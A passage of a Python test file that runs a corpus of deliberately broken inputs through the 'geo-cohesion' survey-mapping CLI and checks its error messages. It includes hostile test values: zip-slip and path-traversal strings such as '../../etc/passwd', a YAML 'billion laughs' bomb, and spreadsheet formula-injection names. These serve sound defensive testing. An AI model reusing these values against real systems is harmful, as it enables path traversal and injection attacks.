         ("boundaries.gpkg", "bezirke", "schulen", "layer")),
    Case("zip_slip", "Zip archive with a path outside its folder (`../evil.shp`)", _zip_slip,
         ("bezirke.zip", "../evil.shp")),
    # --- survey file: format and encoding
    Case("survey_semicolon_decimal_comma", "Survey CSV with `;` and decimal commas",
         _survey_bytes(_semicolon_decimal_comma), ok=True, check=_check_tables,
         works="separator and decimal comma are detected"),
    Case("survey_utf8_bom", "Survey CSV with UTF-8 byte-order mark", _survey_bytes(_survey_utf8_bom), ok=True,
         check=_check_tables, works="the byte-order mark is ignored"),
    Case("survey_cp1252", "Survey CSV in Windows-1252 ('männlich')", _survey_bytes(_survey_cp1252), ok=True,
         check=_check_cp1252_note,
         works="read as Windows-1252 when it is not UTF-8; `check` and `run` say so in a note"),
    Case("survey_nfd_umlauts", "Survey CSV with decomposed umlauts ('männlich' as a + ¨, as macOS writes)",
         _survey_bytes(_survey_nfd), ok=True, check=_check_same_index_as_good,
         works="text is read in composed form (NFC): 'männlich' matches the population table's 'männlich'"),
    Case("structural_nfd_names", "District names with decomposed umlauts ('Hörde' as o + ¨)",
         _structural_names([unicodedata.normalize("NFD", n) for n in NAMES]), ok=True,
         check=_check_nfd_names, works="names are read in composed form (NFC) and written so"),
    Case("structural_mojibake_names", "District names converted twice between encodings ('HÃ¶rde' for 'Hörde')",
         _cell("structural", 1, "name", "Hörde".encode().decode("cp1252")),
         ("structural.csv", "line 3", "'name'", "'Hörde'")),
    Case("population_excel_sep_line", "Population CSV starting with Excel's separator line `sep=;`",
         lambda p: p.path("population.csv").write_text("sep=;\n" + p.csv_text(p.population, sep=";"), encoding="utf-8"),
         ok=True, check=_check_same_index_as_good, works="the separator line is obeyed and skipped"),
    Case("survey_mixed_encoding", "Survey CSV with UTF-8 and Windows-1252 lines mixed",
         _survey_bytes(_mixed_encoding), ("survey.csv", "line 5", "line 61")),
    Case("survey_undecodable", "Survey CSV with bytes that are no text in any encoding",
         _survey_bytes(_undecodable), ("survey.csv", "line 4", "0x81")),
    Case("survey_empty_file", "Empty survey file (0 bytes)", _survey_bytes(lambda p, t: b""), ("survey.csv",)),
    Case("survey_blank_file", "Survey file with only blank lines", _survey_bytes(lambda p, t: b"\n \n\n"),
         ("survey.csv",)),
    Case("survey_binary_file", "Excel workbook (binary) saved under a .csv name", _survey_binary,
         ("survey.csv", "line 1")),
    Case("survey_header_only", "Survey file with a header but no rows", _survey_bytes(_header_only), ("survey.csv",)),
    Case("survey_duplicate_columns", "Two survey columns with the same name", _survey_bytes(_duplicate_column),
         ("survey.csv", "sn1")),
    Case("survey_ragged_long_row", "Survey row with more fields than the header", _survey_bytes(_ragged),
         ("survey.csv", "line 6")),
    Case("survey_ragged_short_row", "Survey row with fewer fields than the header", _survey_bytes(_ragged_short),
         ("survey.csv", "line 8")),
    Case("survey_huge_cell", "5 MB text in one survey cell", _huge_cell, ok=True, check=_check_tables,
         works="columns geo-cohesion does not use may hold long texts"),
    Case("structural_huge_name", "5 MB district name in the structural table", _huge_name,
         ("structural.csv", "line 3")),
    # --- survey content
    Case("answer_out_of_scale", "Answer outside the item's scale", _cell("survey", 4, "vm2", 7),
         ("survey.csv", "line 6", "vm2")),
    Case("answer_not_a_number", "Answer that is not a number", _cell("survey", 8, "sn3", "oft"),
         ("survey.csv", "line 10", "sn3")),
    Case("respondent_all_items_missing", "One respondent answered no item at all", _all_missing_respondent, ok=True,
         check=_check_all_missing, works="the respondent's scores are missing; each estimate uses the available cases"),
    Case("item_column_missing", "A codebook item column is missing from the survey", _drop_column("survey", "vm2"),
         ("survey.csv", "vm2")),
    Case("district_column_missing", "The configured district column is missing",
         _drop_column("survey", "bezirk"), ("survey.csv", "bezirk")),
    Case("column_name_wrong_case", "The project file says `district_column: Bezirk`, the survey has `bezirk`",
         _config(lambda c: c["cities"][0]["survey"].update(district_column="Bezirk")),
         ("survey.csv", "'bezirk' for 'Bezirk'")),
    Case("structural_name_column_missing", "The configured `name_column` of the structural data is not in the file",
         _config(lambda c: c["cities"][0]["structural"].update(name_column="Name")),
         ("structural.csv", "Name", "'name' for 'Name'")),
    Case("survey_blank_district", "Respondents without a district code", _cell("survey", 3, "bezirk", ""),
         ("survey.csv", "line 5", "bezirk")),
    Case("weights_non_numeric", "Design weight that is not a number", _cell("survey", 6, "designgewicht", "hoch"),
         ("survey.csv", "line 8", "designgewicht")),
    Case("weights_zero", "Design weight 0", _cell("survey", 6, "designgewicht", 0), ("survey.csv", "line 8")),
    Case("weights_negative", "Negative design weight", _cell("survey", 9, "designgewicht", -1.5),
         ("survey.csv", "line 11")),
    Case("strata_single_respondent", "A stratum with a single respondent", _strata_single,
         ("survey.csv", "schicht", "'C'", "line 19")),
    Case("survey_category_not_in_population", "Survey category missing from the population table",
         _survey_gender_divers, ("survey.csv", "lines 12, 13", "divers")),
    # --- population and margins
    Case("population_district_zero", "Population 0 for a district that has respondents",
         _population(_pop_district_zero), ("population.csv", "104")),
    Case("population_negative", "Negative population count", _population(_pop_negative),
         ("population.csv", "line 6", "einwohner")),
    Case("margin_gender_zero", "A whole margin category (gender) has population 0", _population(_pop_gender_zero),
         ("population.csv", "männlich")),
    Case("margins_disagree", "Margin totals disagree: some population rows have no age group",
         _population(_pop_blank_age), ("population.csv", "lines 5, 11", "altersgruppe")),
    Case("population_category_dash", "Population age groups with an en dash ('18–34'), the survey with a hyphen",
         _population(lambda f: f.assign(altersgruppe=f["altersgruppe"].str.replace("-", "–"))),
         ("survey.csv", "altersgruppe", "'18-34'", "'18–34'")),
    Case("margin_category_without_respondents", "Margin category (age 80+) without respondents",
         _population(_pop_extra_age), ("survey.csv", "'80+'", "altersgruppe")),
    Case("population_extra_district", "District in the population table but not in the survey",
         _population(_pop_extra_district), ("population.csv", "survey.csv", "'105'")),
    Case("survey_unknown_district", "District in the survey but not in the population table",
         _survey_district("104", "1044"), ("population.csv", "survey.csv", "'1044'", "did you mean '104'")),
    Case("structural_duplicate_ids", "The same district twice in the structural table", _structural_duplicate,
         ("structural.csv", "lines 3, 4", "'102'")),
    Case("structural_extra_district", "District in the structural table but not in the survey", _structural_extra,
         ("structural.csv", "'109'")),
    # --- codebook
    Case("codebook_unknown_dimension", "Own codebook with an unknown dimension", _codebook_unknown_dimension,
         ("codebook.csv", "row 6", "vertrauen")),
    # --- project file
    Case("config_unknown_key", "Unknown key in the project file",
         _config(lambda c: c["cities"][0].update(colour="red")), ("project.yaml", "colour")),
    Case("config_wrong_type", "Wrong type of a setting (`min_n: many`)",
         _config(lambda c: c["estimates"].update(min_n="many")), ("project.yaml", "min_n")),
    Case("config_invalid_yaml", "Project file that is not valid YAML", _config_invalid_yaml, ("project.yaml", "line")),
    Case("config_not_a_mapping", "Project file that is a list, not a mapping", _config_text("- Teststadt\n"),
         ("project.yaml", "cities")),
    Case("config_empty", "Empty project file", _config_text(""), ("project.yaml", "cities")),
    Case("config_missing_population", "City with survey but without `population` section",
         _config(lambda c: c["cities"][0].pop("population")), ("project.yaml", "population")),
    Case("config_unused_population", "Weights used as given (`weighting: {method: none}`) and a `population` table",
         _config(lambda c: c["cities"][0].update(weighting={"method": "none"})),
         ("project.yaml", "would not be used")),
    Case("config_missing_cities", "Project file without `cities`", _config(lambda c: c.pop("cities")),
         ("project.yaml", "cities")),
    Case("config_path_not_found", "Path to a file that does not exist",
         _config(lambda c: c["cities"][0]["population"].update(path="bevoelkerung_2024.csv")),
         ("bevoelkerung_2024.csv",)),
    Case("config_path_is_folder", "Path to a folder instead of a file",
         _folder_as_survey, ("daten", "folder")),
    Case("config_file_is_folder", "The project file given is a folder", _config_directory, ("project.yaml",)),
    Case("config_file_not_found", "The project file given does not exist", lambda p: None, ("projekt.yaml",),
         config="projekt.yaml"),
    Case("config_level_out_of_range", "Confidence level 95 instead of 0.95",
         _config(lambda c: c["estimates"].update(level=95)), ("project.yaml", "level")),
    Case("config_margin_unknown_column", "Raking margin that is no column",
         _config(lambda c: c["cities"][0]["weighting"].update(margins=["altersgruppe", "bildung"])),
         ("population.csv", "bildung")),
    Case("config_bad_bounds", "Weight bounds that are not a [low, high] pair",
         _config(lambda c: c["cities"][0]["weighting"].update(bounds=[3])), ("project.yaml", "bounds")),
    Case("output_folder_is_a_file", "`--out` names an existing file", lambda p: None, ("metadata.json", "--out"),
         out="/".join(OUT_PARTS) + "/tables/metadata.json"),
    Case("config_unsafe_slug", "City slug (used for file names) with a path in it",
         _config(lambda c: c["cities"][0].update(slug="../../etc/passwd")), ("project.yaml", "slug")),
    # --- structural indicators
    Case("indicator_not_in_table", "Declared indicator that is no column of the structural table",
         _config(_declare("arbeitslosenquote", {"label": "Arbeitslose"})), ("structural.csv", "'arbeitslosenquote'")),
    Case("indicator_bad_direction", "Declared indicator with an unknown direction",
         _config(_declare("unemployment_pct", {"direction": "hoch"})), ("project.yaml", "direction")),
    Case("compare_unknown_indicator", "`compare.indicators` lists a column the city does not have",
         _config(lambda c: c["compare"].update(indicators=["sgb2_quote"])), ("compare.indicators", "'sgb2_quote'")),
    Case("figure_variable_unknown", "`maps.figure_variables` names a layer that does not exist",
         _config(lambda c: c["maps"].update(figure_variables=["index", "sgb2_quote"])),
         ("maps.figure_variables", "'sgb2_quote'")),
    Case("structural_own_columns", "Structural columns with own names (one unsafe as a file name), declared",
         _structural_own_columns, ok=True, check=_check_own_columns,
         works="each declared column becomes a labelled layer, association row and figure (file name slugified)"),
    # --- hostile names
    Case("hostile_district_names", "District names with markup, quotes, newlines and `../`", _hostile_names,
         ok=True, check=_check_hostile, works="names are shown as text, never as HTML; no file name comes from them"),
    Case("hostile_district_ids", "District ids with markup, quotes, newlines and `../`", _hostile_ids,
         ok=True, check=_check_hostile, works="ids are data, never file names or HTML"),
    Case("hostile_city_name", "City name `../../Teststadt` (file names come from it)",
         _hostile_city("../../Teststadt"), ok=True, check=_check_city_slug,
         works="file names use the sanitised slug ('teststadt.html'), always inside OUT"),
    # --- number formats (issue #19)
    Case("population_thousands_ambiguous", "Population counts exported by German Excel: `2.069` next to `987`",
         _population_german_csv(declare=False), ("population.csv", "einwohner", "thousands")),
    Case("population_xlsx_text_thousands", "Excel population counts stored as text: `1.234` next to `987`",
         _population_xlsx_text_thousands, ("population.xlsx", "column 'einwohner'", "more than one way")),
    Case("population_xlsx_uncached_formulas", "Excel population table written by a script: a formula without a "
         "stored result (read as an empty cell before)", _population_xlsx_uncached_formulas,
         ("population.xlsx", "D5", "formulas without a stored result")),
    Case("survey_trailing_separator", "Survey CSV with BOM, CRLF and a `;` at the end of every line "
         "(traceback before)", _survey_bytes(_survey_trailing_separator), ok=True, check=_check_same_index_as_good,
         works="the empty last column is no column; the results equal those of the plain file"),
    Case("wave_ids_are_names", "An earlier wave's score table with district names where the survey has codes "
         "(check passed, run stopped without naming the file)", _wave_scores(NAMES),
         ("welle2015.csv", "wave '2015'", "Altstadt", "101")),
    Case("wave_label_twice", "Two earlier waves with the same `label` (traceback)", _wave_scores(IDS, copies=2),
         ("waves", "'2015'", "label")),
    Case("need_one_indicator", "`need.indicators` with one indicator (the need index was silently left out)",
         _config(lambda c: c.update(need={"indicators": {"sgb2_share_pct": 1}})),
         ("need.indicators", "at least 2", "sgb2_share_pct")),
    Case("need_constant_indicator", "`need.indicators` with an indicator that is the same in every district "
         "(silently left out, with RuntimeWarnings)",
         _structural_and_need(lambda f: f.assign(unemployment_pct=5.0)),
         ("need.indicators", "unemployment_pct", "constant")),
    Case("population_absurd", "Population count 1e300 (overflowed the weighting: traceback)",
         _population(lambda f: f.assign(einwohner=f["einwohner"].astype(float).where(f.index != 4, 1e300))),
         ("population.csv", "line 6", "'einwohner'", "1e+300")),
    Case("population_thousands_declared", "The same table with `decimal: \",\"` and `thousands: \".\"` declared",
         _population_german_csv(declare=True), ok=True, check=_check_same_index_as_good,
         works="read as 2069 and 987; the results equal those of the plain table"),
    Case("config_decimal_equals_thousands", "`decimal` and `thousands` both `,`",
         _config(lambda c: c["cities"][0]["population"].update(decimal=",", thousands=",")),
         ("project.yaml", "decimal", "thousands")),
    Case("structural_text_in_declared_indicator", "`k.A.` in an indicator column declared under `indicators`",
         _declared_text_cell,
         ("structural.csv", "line 3", "unemployment_pct", "'k.A.'")),
    Case("structural_text_in_other_column", "`k.A.` in an undeclared indicator column (`unemployment_pct`)",
         _cell("structural", 1, "unemployment_pct", "k.A."), ok=True, check=_check_text_column_note,
         works="the column is used nowhere (maps, associations, need index), and metadata.json says why"),
    # --- weights
    Case("weights_extreme", "One design weight 500 times the others", _cell("survey", 5, "designgewicht", 500),
         ok=True, check=_check_weight_warning,
         works="the run finishes; weighting_diagnostics.csv and the summary warn about the design effect"),
    Case("weights_bounds_unreachable", "Weight bounds so tight that the margins cannot be reached",
         _config(lambda c: c["cities"][0]["weighting"].update(bounds=[0.99, 1.01])), ("population.csv", "bounds")),
    # --- project file
    Case("config_duplicate_key", "The same key twice in the project file",
         _raw_config(lambda t: t.replace("seed: 1\n", "seed: 1\nseed: 2\n", 1)), ("project.yaml", "line", "seed")),
    Case("config_key_wrong_case", "`Cities:` instead of `cities:`",
         _raw_config(lambda t: t.replace("cities:", "Cities:")),
         ("project.yaml", "line", "'Cities'", "did you mean 'cities'")),
    Case("config_nested_key_wrong_case", "`Path:` instead of `path:` under `survey:`",
         _raw_config(lambda t: t.replace("path: survey.csv", "Path: survey.csv")),
         ("project.yaml", "line", "'Path'", "did you mean 'path'")),
    Case("config_latin1", "Project file saved in Windows-1252 ('Münster')",
         _config_bytes(lambda t: t.replace("Teststadt", "Münster").encode("cp1252")),
         ("project.yaml", "line", "0xfc", "UTF-8")),
    Case("config_bom_crlf", "Project file with a byte-order mark and Windows line ends",
         _config_bytes(lambda t: b"\xef\xbb\xbf" + t.replace("\n", "\r\n").encode("utf-8")), ok=True,
         works="read like the plain UTF-8 file"),
    Case("config_billion_laughs", "Nested YAML aliases (\"billion laughs\")", _raw_config(_billion_laughs),
         ("project.yaml", "line", "anchors")),
    Case("config_deep_nesting", "5,000 levels of nesting in the project file", _raw_config(_deep_nesting),
         ("project.yaml", "nested")),
    Case("config_base_dir_key", "A `base_dir` key (not a key of the file)",
         _config(lambda c: c.update(base_dir="/etc")), ("project.yaml", "base_dir")),
    Case("config_ids_as_typed", "Group ids typed unquoted (`0101`) and groups called `no`/`yes`",
         _raw_config(_unquoted_ids_and_words), ok=True, check=_check_groups_as_typed,
         works="ids and names stay text as typed ('0101' matches district 101 like '101'; 'no' is a name)"),
    Case("config_group_unknown_octal", "A group member `010` that is no district (YAML would read it as 8)",
         _raw_config(lambda t: t.replace("- name: Teststadt\n", "- name: Teststadt\n  groups: {Nord: [010]}\n", 1)),
         ("groups", "'010'")),
    Case("config_seed_negative", "Negative seed", _config(lambda c: c.update(seed=-1)), ("project.yaml", "seed")),
    Case("config_permutations_too_few", "`permutations: 5`", _config(lambda c: c["compare"].update(permutations=5)),
         ("project.yaml", "permutations")),
    Case("config_rank_draws_too_few", "`rank_draws: 10`", _config(lambda c: c["compare"].update(rank_draws=10)),
         ("project.yaml", "rank_draws")),
    Case("config_figure_format_unknown", "Unknown figure format (`gif`)",
         _config(lambda c: c["maps"].update(figure_formats=["png", "gif"])), ("project.yaml", "figure_formats")),
    Case("config_breaks_not_increasing", "User class breaks not increasing",
         _config(lambda c: c["maps"].update(scheme="user", breaks=[70, 55])), ("project.yaml", "breaks")),
    # --- outputs
    Case("output_name_collision", "A city `teststadt_gruppen` next to city `teststadt`'s group outputs",
         _slug_collision, ("teststadt_gruppen",)),
    Case("output_folder_locked", "Another run is writing into the output folder", _locked_out,
         ("another geo-cohesion run",), out="locked"),
    Case("formula_injection_names", "District names starting with `=`, `+`, `-`, `@` (spreadsheet formulas)",
         _structural_names(FORMULAS), ok=True, check=_check_formulas,
         works="every CSV and XLSX cell starting with = + - @ tab or CR gets a leading ' (shown as text)"),
    Case("mathtext_names", "District names with `$…$` (matplotlib mathtext) and figures on",
         _structural_names(["$x^2$", "Hörde $", "$\\frac{1}{0}$", "Weißenburg"], figures=True), ok=True,
         check=_check_mathtext, works="names are drawn as plain text, dollar signs included"),
    # --- coordinates and reliability
    Case("coordinates_absurd", "District coordinates far outside the earth (1e12 m)",
         _set_geometry(2, _translate(1e12)), ("boundaries.gpkg", "103", "coordinates")),
    Case("coordinates_nan", "A district vertex that is not a number", _set_geometry(1, _nan_vertex),
         ("boundaries.gpkg", "102")),
    # --- already weighted district scores (robustness sweep 2)
    Case("scores_unknown_variable", "Score table naming the index `Zusammenhaltsindex` instead of `index`",
         _scores_instead(_score_label), ("scores.csv", "lines 2, 4", "'variable'", "Zusammenhaltsindex", "'index'")),
    Case("scores_negative_n", "Score table with `n = -3` respondents", _scores_instead(_score_n_negative),
         ("scores.csv", "line 7", "'n'", "-3")),
    Case("all_districts_unreliable", "Every district below the reliability threshold (`min_n: 1000`)",
         _config(lambda c: c["estimates"].update(min_n=1000)), ok=True, check=_check_all_suppressed,
         works="the run finishes: districts are shown as too few respondents, the city value is reported"),
]
CASE_IDS = [c.id for c in CASES]
#: Mistakes `check` does not see: they exist only when a run writes (output folder, output file names), or
#: need the estimates (the map layers `maps.figure_variables` may name exist after the comparison).
RUN_ONLY: frozenset[str] = frozenset({"output_folder_is_a_file", "output_name_collision", "output_folder_locked",
                                      "figure_variable_unknown"})


# ---------------------------------------------------------------------------------------------
# Running


@dataclass
class Result:
    case: Case
    project: Project
    returncode: int
    stdout: str
    stderr: str
    before: dict[str, str]
    after: dict[str, str]
    seconds: float
    check: subprocess.CompletedProcess | None = None  # ``geo-cohesion check`` on the same broken project

    @property
    def message(self) -> str:
        return self.stderr.strip().removeprefix(PREFIX)


def snapshot(root: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file (and '<dir>' for folders) below ``root``."""
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        out[rel] = "<dir>" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def run_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    """``python -m geo_cohesion.cli ARGS`` in a fresh interpreter, importing this checkout's package
    (the child runs in the case folder, where ``-m`` would find an installed copy instead)."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
    return subprocess.run([sys.executable, "-m", "geo_cohesion.cli", *args], cwd=cwd, capture_output=True,
                          text=True, encoding="utf-8", errors="replace", timeout=TIMEOUT, env=env)


#: Modules the fork server imports once, so that a case does not pay ~1.5 s of imports. The CLI
#: module itself is NOT preloaded: each child executes it as ``__main__``, exactly as ``-m`` does.
PRELOAD = ["geo_cohesion", "geo_cohesion.project.config", "geo_cohesion.project.run", "geo_cohesion.io.boundaries",
           "geo_cohesion.project.analysis", "geo_cohesion.maps.html", "geo_cohesion.maps.layers"]
TIMEOUT = 300
#: Set GEO_COHESION_CORPUS_SUBPROCESS=1 to run every case in a fresh interpreter (slower, same results);
#: platforms without a fork server (Windows) always do.
FRESH_INTERPRETERS = (os.environ.get("GEO_COHESION_CORPUS_SUBPROCESS") == "1"
                      or "forkserver" not in __import__("multiprocessing").get_all_start_methods())


def _cli_child(cwd: str, argv: list[str], stdout: str, stderr: str, exit_file: str) -> None:
    """In a process forked from the fork server: ``python -m geo_cohesion.cli ARGV`` in ``cwd``.

    The exit code is also written to ``exit_file``: multiprocessing reports 255 when it loses the
    race for a child's exit status, and the test must see the real one.
    """
    import runpy
    import traceback

    os.chdir(cwd)
    for fd, name in ((1, stdout), (2, stderr)):
        handle = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.dup2(handle, fd)
        os.close(handle)
    sys.argv = ["geo_cohesion.cli", *argv]
    code = 0
    try:
        runpy.run_module("geo_cohesion.cli", run_name="__main__", alter_sys=True)
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
        if not isinstance(exc.code, (int, type(None))):
            print(exc.code, file=sys.stderr)
    except BaseException:  # what the interpreter does with an uncaught exception
        traceback.print_exc()
        code = 1
    finally:
        sys.stdout.flush()
        sys.stderr.flush()
    Path(exit_file).write_text(str(code), encoding="utf-8")
    os._exit(code)


@functools.lru_cache(maxsize=1)
def _forkserver():
    import multiprocessing

    ctx = multiprocessing.get_context("forkserver")
    ctx.set_forkserver_preload([*PRELOAD, __name__])  # this module provides _cli_child
    return ctx


def run_cli_forked(cwd: Path, logs: Path, *args: str) -> subprocess.CompletedProcess:
    """Like :func:`run_cli`, but the child is forked from a server with the libraries imported."""
    if FRESH_INTERPRETERS:
        return run_cli(cwd, *args)
    ctx = _forkserver()
    logs.mkdir(parents=True, exist_ok=True)
    stdout, stderr, exit_file = logs / "stdout", logs / "stderr", logs / "exit_code"
    proc = ctx.Process(target=_cli_child, args=(str(cwd), list(args), str(stdout), str(stderr), str(exit_file)))
    proc.start()
    proc.join(TIMEOUT)
    if proc.is_alive():
        proc.kill()
        proc.join()
    read = lambda p: p.read_text(encoding="utf-8", errors="replace") if p.exists() else ""
    code = int(read(exit_file)) if exit_file.exists() else proc.exitcode  # killed or crashed: the real status
    return subprocess.CompletedProcess(args, code, read(stdout), read(stderr))


def good_run(root: Path) -> Path:
    """Write the valid project and run it; returns the folder with the good outputs."""
    project = base_project(root / "good")
    project.write()
    proc = run_cli(project.dir, "run", "project.yaml", "--out", str(project.out))
    assert proc.returncode == 0, proc.stderr
    return project.out


def run_case(case: Case, root: Path, good_out: Path) -> Result:
    import time

    project = base_project(root / case.id)
    project.write()
    case.mutate(project)
    if not case.ok:  # a failing run must leave earlier good outputs alone
        shutil.copytree(good_out, project.out)
    before = snapshot(project.root)
    start = time.perf_counter()
    out = project.root / case.out if case.out else project.out
    proc = run_cli_forked(project.dir, root / "_logs" / case.id, "run", case.config, "--out", str(out))
    seconds = time.perf_counter() - start
    after = snapshot(project.root)
    check = None if case.ok else run_cli_forked(project.dir, root / "_logs" / f"{case.id}_check", "check",
                                                 case.config)
    return Result(case, project, proc.returncode, proc.stdout, proc.stderr, before, after, seconds, check)


def run_corpus(root: Path, cases: list[Case] = CASES, workers: int | None = None) -> dict[str, Result]:
    """Run the good project, then every case (in parallel, one CLI subprocess each)."""
    good_out = good_run(root)
    workers = workers or max(2, min(8, (os.cpu_count() or 2) + 1))
    with ThreadPoolExecutor(workers) as pool:
        results = list(pool.map(lambda c: run_case(c, root, good_out), cases))
    return {r.case.id: r for r in results}


# ---------------------------------------------------------------------------------------------
# Tests


@pytest.fixture(scope="module")
def corpus_root(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("bad_inputs")


@pytest.fixture(scope="module")
def corpus(request, corpus_root) -> dict[str, Result]:
    """Run the good project and the selected cases once, in parallel (each a CLI subprocess)."""
    wanted = {item.callspec.params["case_id"] for item in request.session.items
              if hasattr(item, "callspec") and "case_id" in item.callspec.params
              and item.module is sys.modules[__name__]}
    return run_corpus(corpus_root, [c for c in CASES if c.id in wanted])


def test_corpus_size_and_unique_ids():
    assert len(CASES) >= 45
    assert len(set(CASE_IDS)) == len(CASE_IDS)


@pytest.mark.slow
def test_good_project_runs(corpus, corpus_root):
    """The unbroken project works (figures off) and writes tables and the map."""
    out = base_project(corpus_root / "good").out
    assert (out / "tables" / "district_estimates.csv").exists() and (out / "teststadt.html").exists()
    assert not (out / "figures").exists()
    assert not [p for p in out.rglob("*") if p.name.startswith(".") and p.name != ".geo-cohesion-manifest.json"]


@pytest.mark.slow
@pytest.mark.parametrize("case_id", CASE_IDS)
def test_bad_input(case_id, corpus):
    result = corpus[case_id]
    case = result.case
    assert "Traceback" not in result.stderr, result.stderr
    changed = {k for k in set(result.before) | set(result.after) if result.before.get(k) != result.after.get(k)}
    out_rel = "/".join(OUT_PARTS)
    if case.ok:
        assert result.returncode == 0, result.stderr
        outside = sorted(k for k in changed if not (k == out_rel or k.startswith(out_rel + "/"))
                         and k not in ("run", "run/results"))
        assert not outside, f"written outside OUT: {outside}"
        hidden = [k for k in changed if Path(k).name.startswith(".") and Path(k).name != ".geo-cohesion-manifest.json"]
        assert not hidden, "temporary files left behind"
        assert (result.project.out / "tables" / "district_estimates.csv").exists()
        if case.check is not None:
            case.check(result.project, result)
        return
    assert result.returncode == 2, (result.returncode, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    line = lines[0]
    assert line.startswith(PREFIX), line
    assert " – " in line, f"no hint how to fix: {line}"
    for text in case.where:
        assert text in line, f"{text!r} not in {line!r}"
    assert not changed, f"files changed by a failed run: {sorted(changed)}"


@pytest.mark.slow
@pytest.mark.parametrize("case_id", [c.id for c in CASES if not c.ok])
def test_check_reports_the_same_error_as_run(case_id, corpus):
    """``check`` finds every input mistake of the corpus with run's message; mistakes that only exist
    when writing (the output folder, names of output files) are ``run``'s alone and ``check`` passes."""
    result = corpus[case_id]
    if result.case.id in RUN_ONLY:
        assert result.check.returncode == 0, result.check.stderr
        return
    assert (result.check.returncode, result.check.stderr) == (2, result.stderr)


def test_debug_shows_the_traceback(corpus_root):
    """Only with --debug does a bad input show a traceback (here: an answer outside the scale)."""
    case = next(c for c in CASES if c.id == "answer_out_of_scale")
    project = base_project(corpus_root / "debug")
    project.write()
    case.mutate(project)
    proc = run_cli_forked(project.dir, corpus_root / "_logs" / "debug", "--debug", "run", "project.yaml",
                          "--out", str(project.out))
    assert proc.returncode != 0 and "Traceback" in proc.stderr and "InputError" in proc.stderr
    assert not project.out.exists()


def test_docs_list_every_case():
    text = DOCS.read_text(encoding="utf-8")
    missing = [c for c in CASE_IDS if f"`{c}`" not in text]
    assert not missing, (f"docs/errors.md lacks {missing}: "
                         "run python tests/test_bad_inputs.py --write-docs docs/errors.md")


def test_slugify_is_file_name_safe():
    from geo_cohesion.keys import slugify

    for name in ["../x", "/", "..", "", ".", "a/../../b", "C:\\Windows\\x", "\x00", "<script>", "東京", "x" * 5000]:
        slug = slugify(name)
        assert slug and slug not in (".", "..") and "/" not in slug and "\\" not in slug, (name, slug)
        assert len(slug) <= 80 and slug == slug.strip("-.")
    assert slugify("../x") == "x" and slugify("Dessau-Roßlau") == "dessau-rosslau"


# ---------------------------------------------------------------------------------------------
# docs/errors.md


def _md(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def docs_table(results: dict[str, Result]) -> str:
    """The markdown page listing every case: problem, example message, how to fix."""
    lines = [
        "# Bad input: messages and fixes",
        "",
        "<!-- generated by `python tests/test_bad_inputs.py --write-docs docs/errors.md`; do not edit -->",
        "",
        "Every problem geo-cohesion can detect in your inputs ends with **one** line on stderr,",
        "`geo-cohesion: error: WHERE: WHAT – HOW TO FIX`, and exit code 2; nothing is written, and",
        "earlier results in the output folder stay as they were (`--debug` shows the traceback).",
        "Some inputs that look broken are accepted on purpose (marked *works*).",
        "",
        "This table is generated from the bad-input corpus in `tests/test_bad_inputs.py` (each case",
        "is a small valid project with one thing broken, run through `geo-cohesion run`).",
        "",
        "| case | input problem | message (example) | how to fix |",
        "|---|---|---|---|",
    ]
    for case in CASES:
        result = results[case.id]
        if case.ok:
            message, fix = f"*works* (exit code 0){': ' + case.works if case.works else ''}", "nothing to fix"
        else:
            text = result.message.replace(str(result.project.root), "…")
            if len(text) > 400:
                text = text[:400] + " …"
            message, _, fix = text.partition(" – ")
        lines.append(f"| `{case.id}` | {_md(case.problem)} | {_md(message)} | {_md(fix) or '—'} |")
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--write-docs", metavar="PATH", help="run the corpus and write the markdown table")
    parser.add_argument("--workers", type=int, default=None)
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as tmp:
        results = run_corpus(Path(tmp), workers=args.workers)
        bad = [r.case.id for r in results.values() if r.returncode != (0 if r.case.ok else 2)]
        for r in results.values():
            print(f"{r.case.id:40s} rc={r.returncode} {r.seconds:5.1f}s {r.stderr.strip()[:160]}")
        if args.write_docs:
            Path(args.write_docs).parent.mkdir(parents=True, exist_ok=True)
            Path(args.write_docs).write_text(docs_table(results), encoding="utf-8")
            print(f"written {args.write_docs}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
